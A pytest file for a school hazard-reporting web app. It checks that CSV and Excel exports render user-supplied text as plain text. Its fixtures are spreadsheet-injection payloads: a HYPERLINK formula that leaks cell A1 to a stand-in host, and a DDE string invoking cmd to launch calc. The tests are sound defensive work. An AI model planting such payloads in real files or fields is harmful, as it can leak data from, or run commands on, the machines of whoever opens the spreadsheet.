"""What people type goes into every spreadsheet and CSV as text: no formula, no character that breaks the file.

A 随手拍 description comes from a stranger and becomes a hazard's once staff accept it; a
point's name is printed into a batch's manifest. Each is opened in Excel or WPS by county staff.
"""

import csv
import io
import zipfile

import sqlalchemy as sa
from openpyxl import load_workbook

from app.extensions import db
from app.hazards.models import Hazard
from app.labels.runner import drain
from app.spreadsheets import csv_bytes, csv_value
from tests.hazard_helpers import picture

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


def _accepted_snap(app, world, login, description: str) -> int:
    """An anonymous 随手拍 report, accepted by the school's safety officer; its hazard's id."""
    safety = login("safety")
    token = safety.get(f"/api/schools/{world.school_a_id}/snap-code").json["token"]
    buf = io.BytesIO()
    picture(5).save(buf, "JPEG")
    sent = app.test_client().post(f"/api/public/snap/{token}", data={
        "description": description, "photos": [(io.BytesIO(buf.getvalue()), "snap.jpg")]})
    assert sent.status_code == 201, sent.json
    accepted = safety.post(f"/api/public-reports/{sent.json['id']}/accept",
                           json={"place": "校门口", "category": "gate", "urgency": "normal"})
    assert accepted.status_code == 200, accepted.json
    return accepted.json["hazard_id"]


def _ledger_cells(client, fmt: str) -> list[list]:
    answer = client.get(f"/api/hazards/ledger?format={fmt}")
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    if fmt == "csv":
        return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(answer.data)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_a_formula_sent_by_a_stranger_is_text_in_the_ledger(app, world, login):
    _accepted_snap(app, world, login, FORMULA)
    safety = login("safety")
    [row] = [r for r in _ledger_cells(safety, "csv") if any(FORMULA in value for value in r)]
    assert "'" + FORMULA in row  # OWASP: a leading quote, so Excel reads text
    [cell] = [c for row in _ledger_cells(safety, "xlsx") for c in row if c.value and FORMULA in str(c.value)]
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix  # shown as typed, kept as text
    raw = zipfile.ZipFile(io.BytesIO(safety.get("/api/hazards/ledger?format=xlsx").data))
    assert b"<f>" not in raw.read("xl/worksheets/sheet1.xml")  # no formula anywhere in the sheet


def test_a_control_character_in_an_old_record_no_longer_breaks_the_ledger(app, world, login):
    # The public form refuses control characters now; a hazard stored before that keeps them.
    hazard_id = _accepted_snap(app, world, login, "护栏坏了")
    with app.app_context():
        db.session.execute(sa.update(Hazard).where(Hazard.id == hazard_id).values(description="护栏坏了\x01\x1b"))
        db.session.commit()
    safety = login("safety")
    descriptions = [c.value for row in _ledger_cells(safety, "xlsx") for c in row if c.value == "护栏坏了"]
    assert descriptions == ["护栏坏了"]  # dropped, not the whole export
    assert any("护栏坏了" in row for row in _ledger_cells(safety, "csv"))


def test_a_point_named_like_a_formula_is_text_in_the_batch_manifest(app, world, login):
    county = login("county")
    made = county.post("/api/points", json={"school_id": world.school_a_id, "name": "@SUM(1+1)*cmd|' /C calc'!A0",
                                            "category": "fire", "risk_level": "red"})
    assert made.status_code == 201, made.json
    batch = county.post("/api/qr-batches", json={"point_ids": [made.json["id"]]})
    assert batch.status_code == 202, batch.json
    drain(timeout=60)
    manifest = county.get(f"/api/qr-batches/{batch.json['id']}/manifest")
    assert manifest.status_code == 200, manifest.json
    [row] = list(csv.DictReader(io.StringIO(manifest.data.decode("utf-8-sig"))))
    assert row["point_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_school_named_like_a_formula_is_text_in_the_monthly_workbook(app, world, login):
    with app.app_context():
        from app.orgs.models import OrgUnit

        db.session.execute(sa.update(OrgUnit).where(OrgUnit.id == world.school_a_id).values(name="+1-2"))
        db.session.commit()
    answer = login("county").get("/api/reports/monthly.xlsx")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == "+1-2"]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_every_start_of_a_formula_is_neutralised_and_other_text_left_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_value(f"{start}1+1") == f"'{start}1+1"
    assert csv_value("1+1=2") == "1+1=2" and csv_value(-5) == -5 and csv_value("甲小学\x00") == "甲小学"
    # text fields are quoted, so a separator inside one never starts another cell
    assert csv_bytes([["a;=1+1", 3]]).decode("utf-8-sig") == '"a;=1+1",3\r\n'
